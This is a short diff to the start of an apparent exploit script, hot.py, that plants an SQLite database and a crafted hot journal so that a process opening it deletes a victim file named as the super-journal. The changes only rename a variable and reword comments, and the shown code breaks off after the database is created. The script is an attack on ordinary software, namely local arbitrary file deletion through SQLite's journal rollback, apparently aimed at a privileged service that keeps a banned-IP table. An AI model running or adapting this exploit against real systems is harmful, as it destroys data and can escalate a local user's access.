@@ -1,11 +1,11 @@
-# As a local user, with a directory of hers: a database there, and beside it a journal that asks SQLite to roll
-# back and then to delete the file that it names as its super-journal (sqlite.org/fileformat2.html).
+# Runs as a local user with a directory: creates a database there, and a journal that makes SQLite roll back and then
+# delete the file that the journal names as its super-journal (sqlite.org/fileformat2.html).
 #   hot.py DIRECTORY VICTIM
 import os, sqlite3, struct, sys
 
-where, victim = sys.argv[1], sys.argv[2].encode()
+directory, victim = sys.argv[1], sys.argv[2].encode()
 PAGE, SECTOR, MAGIC = 4096, 512, bytes.fromhex("d9d505f920a163d7")
-path = os.path.join(where, "db")
+path = os.path.join(directory, "db")
 with sqlite3.connect(path) as database:
     database.execute("CREATE TABLE banned_ips(ip TEXT PRIMARY KEY, bantime INTEGER)")
 with open(path, "rb") as file:
